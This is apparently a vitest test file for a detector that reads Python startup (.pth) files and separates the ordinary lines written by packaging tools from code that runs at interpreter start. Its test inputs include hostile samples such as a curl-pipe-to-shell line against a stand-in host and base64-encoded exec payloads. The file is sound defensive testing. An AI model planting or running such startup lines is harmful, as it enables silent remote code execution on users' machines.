import { describe, expect, it } from 'vitest';
import { isHostile, startupCode } from '../../../../server/src/ecosystems/python/installed/startupFiles.js';

const NSPKG_PARTS = [
  'import sys, types, os',
  'has_mfs = sys.version_info > (3, 5)',
  "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope', 'interface'))",
  "importlib = has_mfs and __import__('importlib.util')",
  "has_mfs and __import__('importlib.machinery')",
  "m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])))",
  "m = m or sys.modules.setdefault('zope', types.ModuleType('zope'))",
  "mp = (m or []) and m.__dict__.setdefault('__path__',[])",
  '(p not in mp) and mp.append(p)',
  "m and setattr(sys.modules['zope'], 'interface', m)",
];
const PLEN = 'import sys; sys.__plen = len(sys.path)';
const EGG_INSERT =
  "import sys; new=sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p=getattr(sys,'__egginsert',0); sys.path[p:p]=new; sys.__egginsert = p+len(new)";
const DISTUTILS =
  "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ";

describe('startupCode: nothing of note', () => {
  it.each([
    ['paths only', '/usr/share/lib\n../other\n# import os\n'],
    ['an empty file', ''],
    ['words that only begin like an import', 'imports\nimport\nfrom os import path\n import os\nimportlib'],
    ["easy_install's brackets", `${PLEN}\n/src/a\n${EGG_INSERT}\n`],
    ["setuptools' precedence file", DISTUTILS],
    ['a namespace package', NSPKG_PARTS.join(';')],
    ['a namespace package in development', NSPKG_PARTS.join(';').replace("sys._getframe(1).f_locals['sitedir']", "'/src/zope'")],
    ['virtualenv', 'import _virtualenv'],
    ["uv's overlay", 'import site; site.addsitedir("/home/me/.venv/lib/python3.12/site-packages")'],
    ["uv's overlay on Windows", String.raw`import site; site.addsitedir("C:\\Users\\me\\.venv\\Lib\\site-packages")`],
    ['coverage by hand', 'import coverage; coverage.process_startup()'],
    ['a path put in front', "import sys; sys.path.insert(0, '/src')"],
  ])('%s', (_, text) => expect(startupCode(text)).toBeUndefined());
});

describe('startupCode: what is run', () => {
  const seen = (text: string) => {
    const code = startupCode(text);
    return code && [code.line.number, ...code.signs];
  };

  it.each<[string, readonly (string | number)[]]>([
    ['import agent', [1]],
    ['/path\r\nimport\tagent\r\n', [2]],
    ['/path\u2028import agent', [1]],
    ['import sys \f; import agent', [1]],
    ["import sys; x = '\u0007'; exec(x)", [1, 'runsText']],
    ["import os; exec('x = 1')", [1, 'runsText']],
    ["import agent\nimport base64; exec(base64.b64decode('eA=='))", [2, 'encoded', 'runsText']],
    ['import os; os.system("curl https://host.example/x | sh")', [1, 'process', 'network']],
    ["import subprocess; subprocess.Popen(['x'])", [1, 'process']],
    [`import a; b = '${'QUJD'.repeat(60)}'`, [1, 'encoded']],
    [`import a; ${'b = 1; '.repeat(200)}`, [1, 'long']],
    // What tools write, with something more on the line or inside of it.
    [`${PLEN}; import agent`, [1]],
    [DISTUTILS.replace('_distutils_hack', '_distutils_hacks'), [1]],
    ["import sys; getattr(sys, '__egginsert2', 0)", [1]],
    ["import site; site.addsitedir(''.join(['/x']))", [1]],
    [NSPKG_PARTS.join(';').replace("'importlib.util'", "'agent'"), [1]],
    ["import sys; sys.path.append('/x'.__class__('y'))", [1]],
  ])('%s', (text, expected) => expect(seen(text)).toEqual(expected));

  it('neutralises the line that it tells', () => {
    const code = startupCode(`import\tos\u202e; x = '\u0007'; ${'y'.repeat(500)}`);
    expect(code?.line.text).toHaveLength(120);
    expect(code?.line.text).toMatch(/^import os<U\+202E>; x = '<U\+0007>'; y+…$/);
    expect(code?.line.text).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  });
});

describe('isHostile', () => {
  it.each([
    ['import os, sys; exec(\'if "COV_CORE_SOURCE" in os.environ:\\n    import pytest_cov\')', false],
    ['import agent', false],
    ['import base64; x = base64.b64decode("eA==")', false],
    ["import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('eA=='))\"])", true],
  ])('%s: %s', (text, expected) => {
    const code = startupCode(text);
    expect(code && isHostile(code)).toBe(expected);
  });
});
